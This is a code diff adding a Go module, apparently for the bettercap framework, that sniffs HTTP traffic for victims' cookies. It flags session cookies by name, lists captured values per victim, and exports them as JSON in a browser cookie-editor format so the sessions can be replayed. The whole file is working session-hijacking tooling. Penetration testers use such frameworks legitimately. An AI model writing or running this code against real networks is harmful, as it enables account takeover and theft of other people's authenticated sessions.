@@ -0,0 +1,328 @@
+package net_sniff
+
+import (
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/loot"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+// names (or prefixes) of the cookies commonly used to keep authenticated sessions
+var sessionCookieNames = []string{
+	"phpsessid",
+	"jsessionid",
+	"asp.net_sessionid",
+	"aspsessionid",
+	".aspxauth",
+	"cfid",
+	"cftoken",
+	"connect.sid",
+	"laravel_session",
+	"ci_session",
+	"_session_id",
+	"sessionid",
+	"session_id",
+	"session",
+	"sessid",
+	"sid",
+	"sess",
+	"auth",
+	"token",
+	"wordpress_logged_in_",
+	"wordpress_sec_",
+	"remember_",
+}
+
+func isSessionCookie(name string) bool {
+	name = strings.ToLower(name)
+	for _, known := range sessionCookieNames {
+		if name == known || (strings.HasSuffix(known, "_") && strings.HasPrefix(name, known)) {
+			return true
+		}
+	}
+	return strings.HasPrefix(name, "sess") || strings.HasSuffix(name, "sessid") || strings.HasSuffix(name, "session")
+}
+
+type SniffedCookie struct {
+	Victim    string    `json:"victim"`
+	Name      string    `json:"name"`
+	Value     string    `json:"value"`
+	Domain    string    `json:"domain"`
+	HostOnly  bool      `json:"host_only"`
+	Path      string    `json:"path"`
+	Secure    bool      `json:"secure"`
+	HttpOnly  bool      `json:"http_only"`
+	Expires   time.Time `json:"expires"`
+	Session   bool      `json:"session"`
+	FirstSeen time.Time `json:"first_seen"`
+	LastSeen  time.Time `json:"last_seen"`
+}
+
+func (c *SniffedCookie) key() string {
+	return c.Domain + "|" + c.Path + "|" + c.Name
+}
+
+type CookieJar struct {
+	sync.Mutex
+	cookies map[string]map[string]*SniffedCookie
+	// last host requested by each victim to each server, responses don't have it
+	hosts map[string]string
+}
+
+var Cookies = &CookieJar{
+	cookies: make(map[string]map[string]*SniffedCookie),
+	hosts:   make(map[string]string),
+}
+
+func hostOnly(host string) string {
+	if h, _, err := net.SplitHostPort(host); err == nil {
+		return strings.ToLower(h)
+	}
+	return strings.ToLower(host)
+}
+
+// track adds or updates a cookie and returns true if it's new or its value changed.
+func (j *CookieJar) track(c *SniffedCookie) bool {
+	j.Lock()
+	defer j.Unlock()
+
+	victim, found := j.cookies[c.Victim]
+	if !found {
+		victim = make(map[string]*SniffedCookie)
+		j.cookies[c.Victim] = victim
+	}
+
+	if prev, found := victim[c.key()]; found {
+		changed := prev.Value != c.Value
+		prev.Value = c.Value
+		prev.LastSeen = c.LastSeen
+		// Set-Cookie carries the attributes, Cookie only name and value
+		if !c.Expires.IsZero() {
+			prev.Expires = c.Expires
+		}
+		prev.Secure = prev.Secure || c.Secure
+		prev.HttpOnly = prev.HttpOnly || c.HttpOnly
+		return changed
+	}
+
+	victim[c.key()] = c
+	return true
+}
+
+func (j *CookieJar) setHost(victim, server net.IP, host string) {
+	j.Lock()
+	defer j.Unlock()
+	j.hosts[victim.String()+"-"+server.String()] = hostOnly(host)
+}
+
+func (j *CookieJar) getHost(victim, server net.IP) string {
+	j.Lock()
+	defer j.Unlock()
+	return j.hosts[victim.String()+"-"+server.String()]
+}
+
+// List returns the cookies of a victim, or of all of them if victim is empty.
+func (j *CookieJar) List(victim string) []*SniffedCookie {
+	j.Lock()
+	defer j.Unlock()
+
+	list := make([]*SniffedCookie, 0)
+	for address, cookies := range j.cookies {
+		if victim == "" || victim == address {
+			for _, c := range cookies {
+				list = append(list, c)
+			}
+		}
+	}
+
+	sort.Slice(list, func(i, k int) bool {
+		if list[i].Victim != list[k].Victim {
+			return list[i].Victim < list[k].Victim
+		} else if list[i].Domain != list[k].Domain {
+			return list[i].Domain < list[k].Domain
+		}
+		return list[i].Name < list[k].Name
+	})
+
+	return list
+}
+
+func (j *CookieJar) Clear() {
+	j.Lock()
+	defer j.Unlock()
+	j.cookies = make(map[string]map[string]*SniffedCookie)
+	j.hosts = make(map[string]string)
+}
+
+func (j *CookieJar) onCookie(pkt gopacket.Packet, src, dst net.IP, c *SniffedCookie) {
+	if j.track(c) && c.Session {
+		NewSnifferEvent(
+			pkt.Metadata().Timestamp,
+			"cookie",
+			src.String(),
+			dst.String(),
+			*c,
+			"%s %s > %s:%s - %s=%s",
+			tui.Wrap(tui.BACKRED+tui.FOREBLACK, "cookie"),
+			vIP(net.ParseIP(c.Victim)),
+			tui.Yellow(c.Domain),
+			c.Path,
+			tui.Bold(c.Name),
+			tui.Yellow(c.Value),
+		).Push()
+	}
+}
+
+// trackRequestCookies parses the Cookie headers sent by the victim.
+func trackRequestCookies(ip *layers.IPv4, pkt gopacket.Packet, req *http.Request) {
+	host := hostOnly(req.Host)
+	Cookies.setHost(ip.SrcIP, ip.DstIP, req.Host)
+	now := time.Now()
+
+	for _, cookie := range req.Cookies() {
+		Cookies.onCookie(pkt, ip.SrcIP, ip.DstIP, &SniffedCookie{
+			Victim:    ip.SrcIP.String(),
+			Name:      cookie.Name,
+			Value:     cookie.Value,
+			Domain:    host,
+			HostOnly:  true,
+			Path:      "/",
+			Session:   isSessionCookie(cookie.Name),
+			FirstSeen: now,
+			LastSeen:  now,
+		})
+	}
+}
+
+// trackResponseCookies parses the Set-Cookie headers sent to the victim.
+func trackResponseCookies(ip *layers.IPv4, pkt gopacket.Packet, res *http.Response) {
+	host := Cookies.getHost(ip.DstIP, ip.SrcIP)
+	if host == "" {
+		host = ip.SrcIP.String()
+	}
+	now := time.Now()
+
+	for _, cookie := range res.Cookies() {
+		c := &SniffedCookie{
+			Victim:    ip.DstIP.String(),
+			Name:      cookie.Name,
+			Value:     cookie.Value,
+			Domain:    host,
+			HostOnly:  cookie.Domain == "",
+			Path:      cookie.Path,
+			Secure:    cookie.Secure,
+			HttpOnly:  cookie.HttpOnly,
+			Expires:   cookie.Expires,
+			Session:   isSessionCookie(cookie.Name),
+			FirstSeen: now,
+			LastSeen:  now,
+		}
+		if cookie.Domain != "" {
+			c.Domain = strings.TrimPrefix(strings.ToLower(cookie.Domain), ".")
+		}
+		if c.Path == "" {
+			c.Path = "/"
+		}
+		if cookie.MaxAge > 0 {
+			c.Expires = now.Add(time.Duration(cookie.MaxAge) * time.Second)
+		}
+
+		Cookies.onCookie(pkt, ip.SrcIP, ip.DstIP, c)
+	}
+}
+
+// browserCookie is the JSON format used by the EditThisCookie and Cookie-Editor browser extensions.
+type browserCookie struct {
+	Domain         string  `json:"domain"`
+	ExpirationDate float64 `json:"expirationDate,omitempty"`
+	HostOnly       bool    `json:"hostOnly"`
+	HttpOnly       bool    `json:"httpOnly"`
+	Name           string  `json:"name"`
+	Path           string  `json:"path"`
+	SameSite       string  `json:"sameSite"`
+	Secure         bool    `json:"secure"`
+	Session        bool    `json:"session"`
+	StoreID        string  `json:"storeId"`
+	Value          string  `json:"value"`
+}
+
+func (mod *Sniffer) saveCookies(fileName string, victim string) error {
+	cookies := Cookies.List(victim)
+	if len(cookies) == 0 {
+		return fmt.Errorf("no cookies captured yet")
+	}
+
+	export := make([]browserCookie, 0)
+	for _, c := range cookies {
+		bc := browserCookie{
+			Domain:   c.Domain,
+			HostOnly: c.HostOnly,
+			HttpOnly: c.HttpOnly,
+			Name:     c.Name,
+			Path:     c.Path,
+			SameSite: "unspecified",
+			Secure:   c.Secure,
+			Session:  c.Expires.IsZero(),
+			StoreID:  "0",
+			Value:    c.Value,
+		}
+		if !bc.HostOnly {
+			bc.Domain = "." + c.Domain
+		}
+		if !c.Expires.IsZero() {
+			bc.ExpirationDate = float64(c.Expires.Unix())
+		}
+		export = append(export, bc)
+	}
+
+	raw, err := json.MarshalIndent(export, "", "  ")
+	if err != nil {
+		return err
+	} else if fileName, err = loot.WriteFile(fileName, raw, 0600); err != nil {
+		return err
+	}
+
+	mod.Info("saved %d cookies to %s", len(export), tui.Bold(fileName))
+	return nil
+}
+
+func (mod *Sniffer) showCookies(victim string) error {
+	cookies := Cookies.List(victim)
+	if len(cookies) == 0 {
+		return fmt.Errorf("no cookies captured yet")
+	}
+
+	rows := make([][]string, 0)
+	for _, c := range cookies {
+		name := c.Name
+		if c.Session {
+			name = tui.Red(name)
+		}
+		value := c.Value
+		if len(value) > 40 {
+			value = value[:37] + "..."
+		}
+		rows = append(rows, []string{
+			c.Victim,
+			c.Domain,
+			c.Path,
+			name,
+			value,
+			c.LastSeen.Format("15:04:05"),
+		})
+	}
+
+	mod.Session.Table([]string{"Victim", "Domain", "Path", "Name", "Value", "Seen"}, rows)
+	return nil
+}